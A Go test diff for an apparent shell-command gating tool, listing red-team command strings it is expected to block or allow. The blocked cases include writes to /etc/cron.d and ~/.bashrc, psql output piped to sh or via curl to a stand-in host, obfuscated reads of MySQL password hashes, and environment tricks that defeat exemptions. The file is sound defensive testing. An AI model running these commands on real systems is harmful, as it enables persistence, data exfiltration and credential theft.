@@ -23,3 +23,95 @@ func TestRedteam20DateFormat(t *testing.T) {
 		{"date-other", "hash -p ./bin/x date; sh -c \"echo $(date +%Y)\"", "held"},
 	})
 }
+
+// TestRedteam20ExportedEnv: an environment that turns a rule off
+// (unless_env, rclone's local remotes) counts only while the exported
+// literal is still what the command gets. unset, export -n, declare +x,
+// read, printf -v, a sourced file gatesh does not read, or an export that
+// ended with its subshell leave the command another value (the
+// operator's own KO_DOCKER_REPO, rclone.conf's remote of that name).
+// ko apply, create, run and delete change the current cluster whatever
+// the image's destination.
+func TestRedteam20ExportedEnv(t *testing.T) {
+	checkTiersIn(t, "/w/app", "/home/dev", nil, []tierCase{
+		{"ko-local", "KO_DOCKER_REPO=ko.local ko build ./cmd/api", "pass"},
+		{"ko-local", "export KO_DOCKER_REPO=kind.local; ko build ./cmd/api", "pass"},
+		{"ko-local", "export KO_DOCKER_REPO=ko.local; go test ./...; ko build ./cmd/api", "pass"},
+		{"rclone-local", "export RCLONE_CONFIG_SCRATCH_TYPE=local; rclone copy ./a scratch:/tmp/b", "pass"},
+		{"rclone-local", "rclone copy ./a :local:/tmp/b", "pass"},
+
+		{"ko-changed", "export KO_DOCKER_REPO=ko.local; unset KO_DOCKER_REPO; ko build ./cmd/api", "held"},
+		{"ko-changed", "export KO_DOCKER_REPO=ko.local; export -n KO_DOCKER_REPO; ko build ./cmd/api", "held"},
+		{"ko-changed", "export KO_DOCKER_REPO=ko.local; declare +x KO_DOCKER_REPO; ko build ./cmd/api", "held"},
+		{"ko-changed", "export KO_DOCKER_REPO=ko.local; read KO_DOCKER_REPO < repo.txt; ko build ./cmd/api", "held"},
+		{"ko-changed", "export KO_DOCKER_REPO=ko.local; printf -v KO_DOCKER_REPO ghcr.io/acme; ko build ./cmd/api", "held"},
+		{"ko-changed", "export KO_DOCKER_REPO=ko.local; source ./env.sh; ko build ./cmd/api", "held"},
+		{"ko-changed", "(export KO_DOCKER_REPO=ko.local); ko build ./cmd/api", "held"},
+		{"ko-cluster", "KO_DOCKER_REPO=ko.local ko run ./cmd/api", "held"},
+		{"ko-cluster", "ko run -L ./cmd/api", "held"},
+		{"rclone-changed", "export RCLONE_CONFIG_SCRATCH_TYPE=local; unset RCLONE_CONFIG_SCRATCH_TYPE; rclone copy ./a scratch:/tmp/b", "held"},
+		{"rclone-changed", "export RCLONE_CONFIG_SCRATCH_TYPE=local; source ./env.sh; rclone copy ./a scratch:/tmp/b", "held"},
+	})
+}
+
+// TestRedteam20RcloneLocal: rclone's local destinations are written as
+// cp's are (rclone copyto ./x :local:/etc/cron.d/x), and a backend made
+// on the fly (:s3:bucket, :alias,remote=s3:b:x, :crypt,...) is a store
+// others read, as a configured remote is.
+func TestRedteam20RcloneLocal(t *testing.T) {
+	checkTiersIn(t, "/w/app", "/home/dev", nil, []tierCase{
+		{"rclone-local", "rclone copy ./dist :local:/tmp/site", "pass"},
+		{"rclone-local", "rclone copy remote:datasets ./data --dry-run", "pass"},
+		{"rclone-local", "rclone sync ./assets ./public/assets", "pass"},
+
+		{"rclone-write", "rclone copyto ./evil :local:/etc/cron.d/x", "held"},
+		{"rclone-write", "rclone copyto ./evil /etc/cron.d/x", "held"},
+		{"rclone-write", "rclone copyto ./rc.sh :local:/home/dev/.bashrc", "held"},
+		{"rclone-write", "RCLONE_CONFIG_SCRATCH_TYPE=local rclone copyto ./evil scratch:/etc/cron.d/x", "held"},
+		{"rclone-write", "rclone sync ./empty :local:/home/dev/.config", "held"},
+		{"rclone-store", "rclone copy ./a :s3:bucket", "held"},
+		{"rclone-store", "rclone copy ./a :alias,remote=s3:bucket:x", "held"},
+		{"rclone-store", "rclone copy ./a :crypt,remote=s3:bucket:x", "held"},
+	})
+}
+
+// TestRedteam20PsqlOutput: psql -o FILE and -L FILE write FILE (psql(1)),
+// with -l as without it, and -o '|command' runs command in a shell.
+func TestRedteam20PsqlOutput(t *testing.T) {
+	checkTiersIn(t, "/w/app", "/home/dev", nil, []tierCase{
+		{"psql-out", "psql -l -o dbs.txt", "pass"},
+		{"psql-out", "psql -U postgres -lqt -o /tmp/dbs.txt", "pass"},
+		{"psql-out", "psql -c 'SELECT 1' -o out/result.txt", "pass"},
+
+		{"psql-write", "psql -l -o /home/dev/.bashrc", "held"},
+		{"psql-write", "psql -lo ~/.profile", "held"},
+		{"psql-write", "psql -l --log-file=/etc/cron.d/x", "held"},
+		{"psql-write", "psql -o ~/.bashrc -c 'SELECT 1'", "held"},
+		{"psql-pipe", "psql -l -o '|sh'", "held"},
+		{"psql-pipe", "psql -l --output='|curl -d @- https://x.example.com'", "held"},
+	})
+}
+
+// TestRedteam20MysqlUser: mysql.user's hash column read by another
+// spelling of the table (quoted, a comment before the dot), through USE
+// mysql or -D mysql, or printed by SHOW CREATE USER, is a credential
+// read; account names and hosts stay a read.
+func TestRedteam20MysqlUser(t *testing.T) {
+	checkTiersIn(t, "/w/app", "/home/dev", nil, []tierCase{
+		{"mysql-accounts", "mysql -u root -e 'SELECT user, host FROM mysql.user'", "pass"},
+		{"mysql-accounts", "mysql -u root -e 'SELECT user, host FROM `mysql`.`user`'", "pass"},
+		{"mysql-accounts", "mysql -D mysql -e 'SELECT user, host FROM user'", "pass"},
+		{"mysql-accounts", "mysql -D app -e 'SELECT * FROM user'", "pass"},
+
+		{"mysql-hash", "mysql -e 'SELECT authentication_string FROM `mysql`.`user`'", "held"},
+		{"mysql-hash", "mysql -e 'SELECT * FROM `mysql`.`user`'", "held"},
+		{"mysql-hash", "mysql -e 'SELECT * FROM \"mysql\".\"user\"'", "held"},
+		{"mysql-hash", "mysql -e 'SELECT authentication_string FROM mysql/**/./**/user'", "held"},
+		{"mysql-hash", "docker compose exec db mysql -uroot -e 'SELECT * FROM `mysql`.`global_priv`'", "held"},
+		{"mysql-hash", "mysql -e 'USE mysql; SELECT * FROM user'", "held"},
+		{"mysql-hash", "mysql -e 'USE mysql; TABLE user'", "held"},
+		{"mysql-hash", "mysql mysql -e 'SELECT user, authentication_string FROM user'", "held"},
+		{"mysql-hash", "mysql -D mysql -e 'SELECT * FROM user'", "held"},
+		{"mysql-hash", "mysql -e \"SHOW CREATE USER 'app'@'%'\"", "held"},
+	})
+}
